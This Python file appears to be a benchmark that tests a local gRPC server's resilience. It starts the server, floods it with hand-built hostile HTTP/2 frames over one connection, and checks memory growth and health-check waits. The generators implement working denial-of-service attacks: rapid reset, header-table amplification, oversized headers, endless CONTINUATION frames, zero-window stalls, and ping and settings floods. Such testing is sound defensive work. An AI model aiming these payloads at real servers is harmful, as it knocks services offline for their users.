"""A server under hostile HTTP/2 frames from one connection at a time: waits of health checks, and memory.

As a program, `python -m benchmarks.faults.attacks NAME PORT SECONDS`, it attacks, and connects again when cut off.
"""

import itertools
import socket
import subprocess
import sys
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from typing import Final

from benchmarks.calling.subject import Subject, started
from benchmarks.faults.pulse import health_monitor
from benchmarks.faults.served import MIB, Vitals
from benchmarks.report import Row, at_most
from predictor.http2 import encode_headers

MAX_GROWN_MIB: Final = 50.0
SECONDS: Final = 3.0

_HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4
_ZERO_WINDOW: Final = b"\0\4\0\0\0\0"
_CHUNK: Final = 1 << 16
"""Bytes to send at once."""


def frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """Encode one frame."""
    return len(content).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + content


def _block(path: str = "/quantra.v1.PredictionService/ListModels", *further: tuple[bytes, bytes]) -> bytes:
    fields = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"x"))
    return encode_headers((*fields, (b"te", b"trailers"), (b"content-type", b"application/grpc"), *further))


def _streams() -> Iterator[int]:
    return itertools.count(1, 2)


def _rapid_reset() -> Iterator[bytes]:
    block = _block()
    for stream in _streams():
        yield frame(_HEADERS, _END_HEADERS, stream, block) + frame(_RESET, 0, stream, b"\0\0\0\x08")


def _references() -> Iterator[bytes]:
    """One large header in the dynamic table, which each call refers to 4,000 times."""
    indexed = b"\x40\x01a\x7f" + bytes([0x80 | (3900 - 127) & 0x7F, (3900 - 127) >> 7]) + b"x" * 3900
    yield frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, _block() + indexed)
    for stream in itertools.count(3, 2):
        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, _block() + b"\xbe" * 4000)


def _large_headers() -> Iterator[bytes]:
    block = _block("/quantra.v1.PredictionService/ListModels", (b"much", b"x" * 14_000))
    for stream in _streams():
        yield frame(_HEADERS, _END_HEADERS | _END_STREAM, stream, block)


def _endless_headers() -> Iterator[bytes]:
    yield frame(_HEADERS, 0, 1, _block())
    while True:
        yield frame(_CONTINUATION, 0, 1, b"\0\1a\1b")


def _unread_responses() -> Iterator[bytes]:
    yield frame(_SETTINGS, 0, 0, _ZERO_WINDOW)
    block = _block()
    for stream in _streams():
        yield frame(_HEADERS, _END_HEADERS, stream, block) + frame(0, _END_STREAM, stream, bytes(5))


def _pings() -> Iterator[bytes]:
    return itertools.repeat(frame(_PING, 0, 0, bytes(8)))


def _settings() -> Iterator[bytes]:
    return itertools.repeat(frame(_SETTINGS, 0, 0, _ZERO_WINDOW))


ATTACKS: Final[Mapping[str, Callable[[], Iterator[bytes]]]] = {
    "rapid reset": _rapid_reset,
    "a large header referenced 4,000 times a call": _references,
    "14 kB of headers a call": _large_headers,
    "headers that never end": _endless_headers,
    "responses that are never read": _unread_responses,
    "pings": _pings,
    "settings": _settings,
}
"""Frames after the preface and the first settings, without end."""


def attack(name: str, port: int, until_s: float) -> None:
    """Send the frames of an attack on one connection, until the server cuts it off or the time (monotonic) is over.

    Raises:
        OSError: the server cut it off.
    """
    with socket.create_connection(("127.0.0.1", port), timeout=SECONDS) as connection:
        connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0))
        pending = bytearray()
        for content in ATTACKS[name]():
            pending += content
            if len(pending) >= _CHUNK:
                connection.sendall(pending)
                pending.clear()
                if time.monotonic() > until_s:
                    return


def rows(subject: Subject, *, quick: bool) -> Iterator[Row]:
    """Start a new server for each attack."""
    for name in ATTACKS:
        with started(subject.models) as ready:
            process, target = int(str(ready["pid"])), str(ready["target"])
            before = Vitals.of(process).resident
            with health_monitor(target) as pulse:
                seconds = SECONDS / 10 if quick else SECONDS
                command = [sys.executable, "-m", "benchmarks.faults.attacks", name, str(ready["port"]), str(seconds)]
                subprocess.run(command, check=True)
                waits = pulse.stop()
            grown = (Vitals.of(process).peak - before) / MIB
            detail = f"in {seconds:g} s, over {before / MIB:.0f} MiB"
            yield at_most(f"{name}: memory grown, MiB", grown, MAX_GROWN_MIB, detail=detail, judged=not quick)
            yield from waits.rows(name, judged=not quick)


def main(name: str, port: int, seconds: float) -> None:
    """Attack for some seconds."""
    until_s = time.monotonic() + seconds
    while time.monotonic() < until_s:
        with suppress(OSError):
            attack(name, port, until_s)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
